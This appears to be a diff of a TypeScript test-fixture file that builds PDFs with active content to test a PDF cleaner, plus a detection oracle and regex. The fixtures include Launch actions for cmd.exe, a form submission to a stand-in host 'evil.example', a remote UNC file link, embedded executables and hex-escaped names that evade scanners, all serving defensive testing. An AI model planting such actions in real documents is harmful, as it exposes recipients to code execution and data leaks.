@@ -1,8 +1,8 @@
 // PDFs carrying active content, each the way a real file would: JavaScript on opening, on pages,
 // links, outline entries and form fields, actions that launch, submit, import or open other files,
 // XFA, embedded files. Each also holds what must survive cleaning: text, an ordinary web link, a
-// form field, an outline entry.
-import { PDFDict, PDFDocument, PDFName, PDFString, type PDFContext, type PDFPage, type PDFRef } from "pdf-lib";
+// form field, an outline entry. Then the checks that find active content in a PDF's objects and bytes.
+import { PDFArray, PDFDict, PDFDocument, PDFName, PDFStream, PDFString, type PDFContext, type PDFObject, type PDFPage, type PDFRef } from "pdf-lib";
 
 /** Text a script or an embedded file holds: found in the original's bytes, never in the cleaned copy's. */
 export const SCRIPT_TEXT = "app.alert('kits-hostile')";
@@ -22,7 +22,7 @@ async function hostilePdf(build: Build, options: { objectStreams?: boolean } = {
       Subtype: "Link",
       Rect: [10, 10, 100, 30],
       A: { S: "URI", URI: PDFString.of(SAFE_LINK) },
-    })
+    }),
   );
   build(doc, pages);
   return Buffer.from(await doc.save({ useObjectStreams: options.objectStreams ?? true }));
@@ -46,7 +46,7 @@ function link(page: PDFPage, action: PDFDict) {
       Subtype: "Link",
       Rect: [10, 50, 100, 70],
       A: action,
-    })
+    }),
   );
 }
 
@@ -55,7 +55,7 @@ function embeddedFileSpec(context: PDFContext) {
     context.stream(EMBEDDED_TEXT, {
       Type: "EmbeddedFile",
       Subtype: "application#2Foctet-stream",
-    })
+    }),
   );
   return context.register(
     context.obj({
@@ -63,7 +63,7 @@ function embeddedFileSpec(context: PDFContext) {
       F: PDFString.of("outil.exe"),
       UF: PDFString.of("outil.exe"),
       EF: { F: file },
-    })
+    }),
   );
 }
 
@@ -83,7 +83,7 @@ export const hostilePdfs: {
             WC: script(doc.context),
             WS: script(doc.context),
             DP: script(doc.context),
-          })
+          }),
         );
       }),
     found: ["/OpenAction", "/AA", "/S /JavaScript", "/JS"],
@@ -119,7 +119,7 @@ export const hostilePdfs: {
             S: "Launch",
             F: PDFString.of("calc.exe"),
             Win: { F: PDFString.of("cmd.exe"), P: PDFString.of("/c calc") },
-          })
+          }),
         );
         link(
           page,
@@ -127,7 +127,7 @@ export const hostilePdfs: {
             S: "SubmitForm",
             F: { FS: "URL", F: PDFString.of("https://evil.example/collect") },
             Flags: 4,
-          })
+          }),
         );
         link(page, context.obj({ S: "ImportData", F: PDFString.of("donnees.fdf") }));
         link(
@@ -136,7 +136,7 @@ export const hostilePdfs: {
             S: "GoToR",
             F: PDFString.of("\\\\evil.example\\partage\\autre.pdf"),
             D: [0, "Fit"],
-          })
+          }),
         );
         link(
           page,
@@ -144,7 +144,7 @@ export const hostilePdfs: {
             S: "GoToE",
             T: { R: "C", N: PDFString.of("outil.pdf") },
             D: [0, "Fit"],
-          })
+          }),
         );
         link(
           page,
@@ -153,7 +153,7 @@ export const hostilePdfs: {
             TA: context.obj({}),
             TI: context.obj({}),
             CMD: { C: PDFString.of("run") },
-          })
+          }),
         );
         link(page, context.obj({ S: "Rendition", OP: 0, JS: PDFString.of(SCRIPT_TEXT) }));
         link(
@@ -161,7 +161,7 @@ export const hostilePdfs: {
           context.obj({
             S: "Sound",
             Sound: context.register(context.stream("son", { Type: "Sound", R: 8000 })),
-          })
+          }),
         );
         link(page, context.obj({ S: "Movie", T: PDFString.of("film") }));
         // An ordinary action that chains to a script, directly and within an array.
@@ -171,7 +171,7 @@ export const hostilePdfs: {
             S: "URI",
             URI: PDFString.of("https://example.org/"),
             Next: script(context),
-          })
+          }),
         );
         link(
           page,
@@ -179,7 +179,7 @@ export const hostilePdfs: {
             S: "GoTo",
             D: [page.ref, "Fit"],
             Next: [context.obj({ S: "Named", N: "NextPage" }), script(context)],
-          })
+          }),
         );
       }),
     found: [
@@ -218,7 +218,7 @@ export const hostilePdfs: {
               C: script(context),
               Fo: script(context),
             },
-          })
+          }),
         );
         const xfa = context.register(context.stream(`<xdp:xdp><template><script>${SCRIPT_TEXT}</script></template></xdp:xdp>`));
         doc.catalog.set(PDFName.of("AcroForm"), context.obj({ Fields: [field], XFA: xfa, NeedsRendering: true }));
@@ -235,7 +235,7 @@ export const hostilePdfs: {
           PDFName.of("Names"),
           context.obj({
             EmbeddedFiles: { Names: [PDFString.of("outil.exe"), spec] },
-          })
+          }),
         );
         doc.catalog.set(PDFName.of("AF"), context.obj([spec]));
         doc.catalog.set(PDFName.of("Collection"), context.obj({ View: "T" }));
@@ -247,7 +247,7 @@ export const hostilePdfs: {
             Rect: [200, 200, 220, 220],
             FS: embeddedFileSpec(context),
             Name: "PushPin",
-          })
+          }),
         );
       }),
     found: ["/EmbeddedFiles", "/EF", "/AF", "/Collection", "/Type /EmbeddedFile", "/Subtype /FileAttachment"],
@@ -263,7 +263,7 @@ export const hostilePdfs: {
               Type: "Annot",
               Subtype: subtype,
               Rect: [0, 0, 50, 50],
-            })
+            }),
           );
         }
       }),
@@ -281,7 +281,7 @@ export const hostilePdfs: {
               Title: PDFString.of("Sommaire"),
               Parent: outlines,
               A: script(context),
-            })
+            }),
           );
           context.assign(
             outlines,
@@ -290,11 +290,11 @@ export const hostilePdfs: {
               First: entry,
               Last: entry,
               Count: 1,
-            })
+            }),
           );
           doc.catalog.set(PDFName.of("Outlines"), outlines);
         },
-        { objectStreams: false }
+        { objectStreams: false },
       );
       // The same names, spelt as a hostile writer may (pdf-lib only reads the offsets it needs).
       return Buffer.from(bytes.toString("latin1").replaceAll("/S /JavaScript", "/S /J#61vaScript").replaceAll("/JS ", "/#4AS "), "latin1");
@@ -302,3 +302,35 @@ export const hostilePdfs: {
     found: ["/S /JavaScript", "/JS"],
   },
 ];
+
+// The oracle, written from the PDF specification rather than from the cleaner's own lists.
+const activeKeys = ["OpenAction", "AA", "JavaScript", "JS", "EmbeddedFiles", "EF", "RF", "AF", "Collection", "XFA", "NeedsRendering"];
+const activeActions = ["JavaScript", "Launch", "SubmitForm", "ImportData", "GoToR", "GoToE", "RichMediaExecute", "Rendition", "Sound", "Movie"];
+const activeAnnotations = ["FileAttachment", "Sound", "Movie", "Screen", "RichMedia", "3D"];
+
+/** Every active feature found by parsing the PDF and walking all its objects, direct ones included. */
+export async function activeContent(bytes: Uint8Array): Promise<string[]> {
+  const doc = await PDFDocument.load(bytes, { updateMetadata: false });
+  const found = new Set<string>();
+  const nameOf = (object: PDFObject | undefined) => (object instanceof PDFName ? object.decodeText() : undefined);
+  const pending: PDFObject[] = doc.context.enumerateIndirectObjects().map(([, object]) => object);
+  while (pending.length) {
+    const object = pending.pop()!;
+    if (object instanceof PDFStream) pending.push(object.dict);
+    else if (object instanceof PDFArray) pending.push(...object.asArray());
+    else if (object instanceof PDFDict) {
+      for (const [key, value] of object.entries()) {
+        const name = key.decodeText();
+        if (activeKeys.includes(name)) found.add(`/${name}`);
+        if (name === "S" && activeActions.includes(nameOf(value)!)) found.add(`/S /${nameOf(value)}`);
+        if (name === "Subtype" && activeAnnotations.includes(nameOf(value)!)) found.add(`/Subtype /${nameOf(value)}`);
+        if (name === "Type" && nameOf(value) === "EmbeddedFile") found.add("/Type /EmbeddedFile");
+        pending.push(value);
+      }
+    }
+  }
+  return [...found].sort();
+}
+
+// In the cleaned copy, written without object streams, every dictionary is readable as text.
+export const activeNameInBytes = new RegExp(`/(${[...activeKeys, ...activeActions, ...activeAnnotations, "EmbeddedFile"].join("|")})(?=[\\s/<>\\[\\]()])`);
